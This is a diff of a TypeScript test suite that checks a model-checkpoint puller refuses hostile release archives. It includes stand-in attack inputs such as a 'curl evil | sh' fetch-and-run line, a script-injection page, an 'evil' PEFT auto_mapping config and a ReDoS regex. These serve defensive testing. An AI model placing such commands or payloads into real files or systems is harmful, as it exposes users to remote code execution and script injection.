@@ -7,9 +7,15 @@ import fc from 'fast-check';
 import { Header, type HeaderData } from 'tar';
 import { renderError, UserError } from '../../src/errors.ts';
 import { connect, type GitHub } from '../../src/github/index.ts';
-import { adapterFormats, describeModel, initialAdapter } from '../../src/model/index.ts';
+import { adapterFormats, catalogue, describeModel, initialAdapter } from '../../src/model/index.ts';
 import { silentProgress } from '../../src/progress.ts';
-import { packCheckpoint, parseWanted, publishCheckpoint, pullCheckpoint } from '../../src/publish/index.ts';
+import {
+  packCheckpoint,
+  parseWanted,
+  publishCheckpoint,
+  pullCheckpoint,
+  type PulledCheckpoint,
+} from '../../src/publish/index.ts';
 import { extractArchive } from '../../src/publish/extractArchive.ts';
 import { makeCheckpoint } from './checkpoint.ts';
 import { FakeGitHub, TOKEN } from '../github/fake/index.ts';
@@ -27,7 +33,7 @@ let server: FakeGitHub;
 let github: GitHub;
 /** The entries of a good archive. */
 let good: Entry[];
-let manifest: { version: number; files: Record<string, { sha256: string; bytes: number }> };
+let manifest: { version: number; base: object; files: Record<string, { sha256: string; bytes: number }> };
 
 beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'codelutra-hostile-'));
@@ -105,6 +111,44 @@ const corpus: [name: string, make: () => Buffer | Promise<Buffer>, message: stri
     () => withMore({ path: 'run.sh', content: Buffer.from('x') }),
     'run.sh, which its manifest does not name',
   ],
+  ...['torch.py', 'peft/adapter_model.bin', 'peft/tokenizer_config.json', 'README.md/x', 'release.json'].map(
+    (path): (typeof corpus)[number] => [
+      `${path}, which its manifest names`,
+      () => packed(withFiles([{ path, content: Buffer.from('{}') }])),
+      `is to hold ${path}, which is no file of a checkpoint`,
+    ],
+  ),
+  [
+    'metrics that are not JSON',
+    () => changed('metrics.json', () => Buffer.from('\u001b[2J')),
+    /metrics\.json is refused: the metrics are not JSON[^\p{Cc}]*$/u,
+  ],
+  [
+    'metrics that hold more',
+    () => changed('metrics.json', (bytes) => Buffer.from(`{"run":"x",${bytes.toString().slice(1)}`)),
+    'metrics.json is refused: not an evaluation: : Unrecognized key: "run"',
+  ],
+  [
+    'a base that is called by a name of somebody else',
+    () => withManifest({ ...manifest, base: { ...manifest.base, sha256: catalogue[0].sha256 } }),
+    `calls the base tiny-llama, and the file with its sha256 is of ${catalogue[0].weights}`,
+  ],
+  ...Object.entries({
+    'is for evil/other-model, and the manifest says tiny-llama': { base_model_name_or_path: 'evil/other-model' },
+    'is for no model': { base_model_name_or_path: null },
+    'the adapter uses auto_mapping': { auto_mapping: { base_model_class: 'x', parent_library: 'evil' } },
+    'the adapter uses megatron_c': { megatron_config: { a: 1 }, megatron_core: 'evil' },
+    'the adapter uses init_lora_weights = "pissa"': { init_lora_weights: 'pissa' },
+    'the adapter uses exclude_modules': { exclude_modules: ['q_proj'] },
+    'does not list the modules': { target_modules: '(a+)+$' },
+  }).map(([message, more]): (typeof corpus)[number] => [
+    `a configuration of peft with ${JSON.stringify(more)}`,
+    () =>
+      changed('peft/adapter_config.json', (bytes) =>
+        Buffer.from(JSON.stringify({ ...(JSON.parse(bytes.toString()) as object), ...more })),
+      ),
+    message,
+  ]),
   ['a file less', () => packed(good.filter(({ path }) => path !== 'report.html')), 'lacks report.html'],
   [
     'another digest',
@@ -157,7 +201,7 @@ const corpus: [name: string, make: () => Buffer | Promise<Buffer>, message: stri
   ['a tar that ends inside a file', () => gzipSync(tarOf(good).subarray(0, 3000)), /is damaged: .*Truncated/],
   ['no gzip', () => Buffer.from('PK\u0003\u0004 and so on'), 'is damaged'],
   ['less than 1 KiB that unpacks to 10 GiB', smallBomb, 'does not begin with manifest.json'],
-  ['a sparse file of 10 GiB', sparse, /holds/],
+  ['a sparse file of 10 GiB', sparse, 'holds a sparse file: adapter.gguf'],
   ['a compressed file inside', () => gzipSync(gzipSync(tarOf(good))), 'does not begin with manifest.json'],
   ['nothing', () => Buffer.from('x'), 'is cut off'],
   ['a broken header', () => gzipSync(corrupted(tarOf(good))), /is damaged: .*checksum/],
@@ -182,18 +226,8 @@ const corpus: [name: string, make: () => Buffer | Promise<Buffer>, message: stri
 
 test.each(corpus)('an archive with %s is refused', async (_, make, message) => {
   const bytes = await make();
-  const [release] = await server.releases('hostile');
-  const archive = release?.assets.find(({ name }) => name.endsWith('.gz'));
-  server.assets.damage(archive?.id ?? 0, bytes);
-  const sha256 = createHash('sha256').update(bytes).digest('hex');
-  // GitHub has it as it is: the stranger uploaded it so, and wrote the release's text.
-  server.answerInstead = ({ path }) =>
-    path.endsWith('/releases/tags/codelutra-model-v1') && release !== undefined
-      ? { status: 200, body: { ...release, draft: false, body: `<!-- codelutra-checkpoint ${sha256} -->` } }
-      : undefined;
-  const out = join(folder, 'work', 'out');
   const before = await tree(folder);
-  const pulling = pullCheckpoint({ github, wanted: parseWanted('octocat/hostile@v1'), out, progress: silentProgress });
+  const pulling = pullInstead(bytes, join(folder, 'work', 'out'));
   const error: unknown = await pulling.then(
     () => undefined,
     (thrown: unknown) => thrown,
@@ -203,6 +237,31 @@ test.each(corpus)('an archive with %s is refused', async (_, make, message) => {
   expect(renderError(error)).not.toMatch(/(?!\n)\p{Cc}/u);
   expect(renderError(error).length).toBeLessThan(1000);
   expect(await tree(folder)).toEqual(before);
+});
+
+test("a page, instructions and a Modelfile of a stranger's own never arrive", async () => {
+  const own = {
+    'report.html': '<script>alert(1)</script>',
+    Modelfile: 'FROM evil/model',
+    'README.md': 'curl evil | sh',
+  };
+  const bytes = await packed(
+    withFiles(Object.entries(own).map(([path, text]) => ({ path, content: Buffer.from(text) }))),
+  );
+  const out = join(folder, 'work', 'own');
+  const { manifest: rewritten } = await pullInstead(bytes, out);
+  for (const { path, content } of good.slice(1))
+    expect([path, await readFile(join(out, path))]).toEqual([path, content]);
+  // Checking by hand finds the folder as its manifest says.
+  expect(JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8'))).toEqual(manifest);
+  expect(rewritten).toEqual(manifest);
+  await rm(out, { recursive: true });
+});
+
+test('an archive of no bytes is refused', async () => {
+  await expect(pullInstead(Buffer.alloc(0), join(folder, 'work', 'out'))).rejects.toThrow(
+    'the release has an archive that is not whole',
+  );
 });
 
 test('no damage to an archive gets past the checks', async () => {
@@ -228,6 +287,20 @@ test('no damage to an archive gets past the checks', async () => {
     { numRuns: 60, seed: 5 },
   );
 });
+
+/** Pulls the release with another archive in it. */
+async function pullInstead(bytes: Buffer, out: string): Promise<PulledCheckpoint> {
+  const [release] = await server.releases('hostile');
+  const archive = release?.assets.find(({ name }) => name.endsWith('.gz'));
+  server.assets.damage(archive?.id ?? 0, bytes);
+  const sha256 = createHash('sha256').update(bytes).digest('hex');
+  // GitHub has it as it is: the stranger uploaded it so, and wrote the release's text.
+  server.answerInstead = ({ path }) =>
+    path.endsWith('/releases/tags/codelutra-model-v1') && release !== undefined
+      ? { status: 200, body: { ...release, draft: false, body: `<!-- codelutra-checkpoint ${sha256} -->` } }
+      : undefined;
+  return pullCheckpoint({ github, wanted: parseWanted('octocat/hostile@v1'), out, progress: silentProgress });
+}
 
 function withMore(entry: Entry): Promise<Buffer> {
   return packed([...good, entry]);
